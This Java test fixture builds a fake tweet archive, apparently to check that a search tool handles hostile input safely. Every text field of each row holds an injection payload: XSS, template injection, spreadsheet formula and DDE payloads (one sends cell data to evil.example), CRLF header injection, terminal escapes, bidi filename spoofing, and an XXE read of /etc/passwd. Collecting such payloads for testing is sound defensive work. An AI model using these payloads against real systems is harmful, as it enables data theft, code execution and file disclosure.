package org.trawl.page;

import de.siegmar.fastcsv.writer.CsvWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.trawl.ingest.IndexOptions;
import org.trawl.ingest.IndexProgress;
import org.trawl.ingest.TweetIndexer;
import org.trawl.search.TweetSearch;

/// An archive of nothing but attacks: for each of them a tweet in which it fills every field that
/// can hold text. Each is found by the word `hostile`.
final class HostileArchive {
  /// What is tried; on pages, in spreadsheets, on terminals and in logs.
  static final List<String> ATTACKS =
      List.of(
          "\"><img src=x onerror=alert(1)><script>alert(2)</script>",
          "' onmouseover='alert(1)' autofocus onfocus='alert(2)' x='",
          "</script></style></textarea></title><svg onload=alert(1)><iframe srcdoc='x'></iframe>",
          "&lt;img src=x onerror=alert(1)&gt;"
              + " &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt;",
          "<mark onclick=alert(1)>red</mark> <a href=javascript:alert(2)>here</a>",
          "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> !{7*7}",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
          "+cmd|'/c calc'!A1",
          "-2+3+cmd|'/c calc'!A1",
          "@SUM(1+1)*cmd|'/c calc'!A1",
          "\t=1+1",
          "\uFF1D1+1",
          "\r\nSet-Cookie: forged=1\r\n\r\n<script>alert(1)</script>",
          "\u001B]0;pwned\u0007\u001B[2J\u001B[31m",
          "\u202Egnp.exe\u2066 \u200B\uFEFF",
          "]]><!--<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;");

  /// Columns of the official layout that hold text.
  private static final List<String> TEXTS =
      List.of(
          "user_display_name",
          "user_screen_name",
          "user_reported_location",
          "user_profile_description",
          "user_profile_url",
          "account_language",
          "tweet_language",
          "tweet_client_name",
          "in_reply_to_userid",
          "retweet_userid");

  private static final List<String> COLUMNS =
      List.of(
          "tweetid",
          "userid",
          "user_display_name",
          "user_screen_name",
          "user_reported_location",
          "user_profile_description",
          "user_profile_url",
          "follower_count",
          "following_count",
          "account_creation_date",
          "account_language",
          "tweet_language",
          "tweet_text",
          "tweet_time",
          "tweet_client_name",
          "in_reply_to_tweetid",
          "in_reply_to_userid",
          "quoted_tweet_tweetid",
          "is_retweet",
          "retweet_userid",
          "retweet_tweetid",
          "latitude",
          "longitude",
          "quote_count",
          "reply_count",
          "like_count",
          "retweet_count",
          "hashtags",
          "urls",
          "user_mentions",
          "poll_choices");

  private HostileArchive() {}

  /// The id of the tweet of an attack.
  static long id(int attack) {
    return 747_000_000_000_000_000L + attack;
  }

  /// The user id of the account of an attack: an attack itself, as the archive says them as text.
  static String user(int attack) {
    return "u" + attack + ATTACKS.get(attack);
  }

  /// Writes the archive into a folder, indexes it there and opens it.
  static TweetSearch open(Path folder) throws IOException {
    var archive = Files.createDirectories(folder.resolve("archive"));
    try (var csv = CsvWriter.builder().build(archive.resolve("ira_tweets_csv_hashed.csv"))) {
      csv.writeRecord(COLUMNS);
      for (int i = 0; i < ATTACKS.size(); i++) {
        csv.writeRecord(row(i));
      }
    }
    var options = IndexOptions.of(List.of(archive), folder.resolve("index")).withThreads(1);
    new TweetIndexer(options, IndexProgress.SILENT).run();
    return TweetSearch.open(folder.resolve("index"));
  }

  private static List<String> row(int i) {
    var attack = ATTACKS.get(i);
    var row = new ArrayList<String>();
    for (var column : COLUMNS) {
      row.add(
          switch (column) {
            case "tweetid" -> Long.toString(id(i));
            case "userid" -> user(i);
            case "tweet_text" -> attack + " hostile";
            case "tweet_time" -> "2016-06-24 09:11";
            case "account_creation_date" -> "2014-05-12";
            case "is_retweet" -> "false";
            case "hashtags" -> "['" + attack.replace("'", "") + "']";
            case "urls" ->
                "['javascript:alert(3)', 'http://e.example/" + attack.replace("'", "") + "']";
            case "user_mentions" -> "['" + attack.replace("'", "") + "']";
            case "poll_choices" -> attack;
            case "quote_count", "reply_count", "like_count", "retweet_count" -> "0";
            case "follower_count", "following_count" -> "1";
            default -> TEXTS.contains(column) ? attack : "";
          });
    }
    return row;
  }
}
